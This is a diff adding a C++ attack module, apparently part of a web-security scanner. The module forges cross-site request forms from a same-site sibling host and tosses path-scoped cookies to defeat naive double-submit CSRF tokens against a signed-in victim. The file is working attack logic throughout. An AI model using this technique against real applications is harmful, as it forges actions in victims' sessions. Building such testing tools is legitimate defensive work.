@@ -1,0 +1,75 @@
+// csrf-sibling: the attacker has a host on the app's own site. To SameSite his requests are
+// same-site, and he can set cookies for the parent domain: so he gives the victim a token's cookie
+// of his own choice and sends the matching field (naive double submit). Sec-Fetch-Site says
+// "same-site", not "same-origin".
+#include "core/attack/every_agent.h"
+#include "core/attack/lure.h"
+#include "core/attack/own_form.h"
+#include "core/attack/session.h"
+
+namespace parapet::attack {
+namespace {
+
+class CsrfSibling final : public Agent {
+    void run(Target& target) override {
+        OwnHost* sibling = sibling_host(target);
+        if (sibling == nullptr) return;
+        std::vector<Plan> plans;
+        for (Endpoint const* each : unsafe_endpoints(target)) {
+            OwnForm const own = look_at_form(target, *each, As::Attacker);
+            plans.push_back(plain(target, *each));
+            plans.push_back(with(plain(target, *each), own.tokens));
+            for (http::QueryPair const& cookie : own.cookies)
+                if (!is_session(own, cookie)) plans.push_back(tossing(target, *each, own, cookie));
+        }
+        if (!victim_signs_in(target)) return;
+        target.wait(std::chrono::minutes(3));
+        Lure lure(target, *sibling);
+        for (Plan const& each : plans) lure.show(submitting(each.form), each.headers);
+        target.note("The forged forms came from " + sibling->name() +
+                    ", which is the same site as the app.");
+    }
+
+    struct Plan {
+        ForgedForm form;
+        http::HeaderList headers = {};
+    };
+
+    static Plan plain(Target const& target, Endpoint const& endpoint) {
+        std::string action = address_of(target, endpoint);
+        if (endpoint.method != "POST") action += "?_method=" + endpoint.method;
+        return {.form = {.action = std::move(action), .fields = wanted_fields(endpoint)}};
+    }
+
+    static Plan with(Plan plan, std::vector<http::QueryPair> const& tokens) {
+        for (http::QueryPair const& each : tokens) plan.form.fields.push_back(each);
+        return plan;
+    }
+
+    // The cookie that holds the session is not the one to replace.
+    static bool is_session(OwnForm const& own, http::QueryPair const& cookie) {
+        if (is_token_name(cookie.name)) return false;
+        for (http::QueryPair const& token : own.tokens)
+            if (cookie.value.find(token.value) != std::string::npos) return false;
+        return true;
+    }
+
+    // For the endpoint's own path, so that it comes before the app's (RFC 6265bis 5.8.3).
+    static Plan tossing(Target& target, Endpoint const& endpoint, OwnForm const& own,
+                        http::QueryPair const& cookie) {
+        Plan plan = plain(target, endpoint);
+        std::string const path = plan.form.action.substr(app_origin(target).size());
+        for (http::QueryPair const& each : own.tokens) plan.form.fields.push_back(each);
+        if (own.tokens.empty()) plan.form.fields.push_back(cookie);
+        plan.headers.append("set-cookie",
+                            cookie.name + "=" + cookie.value + "; Domain=" + target.surface().host +
+                                "; Path=" + path.substr(0, path.find('?')) + "; Secure");
+        return plan;
+    }
+};
+
+}  // namespace
+
+std::unique_ptr<Agent> make_csrf_sibling() { return std::make_unique<CsrfSibling>(); }
+
+}  // namespace parapet::attack
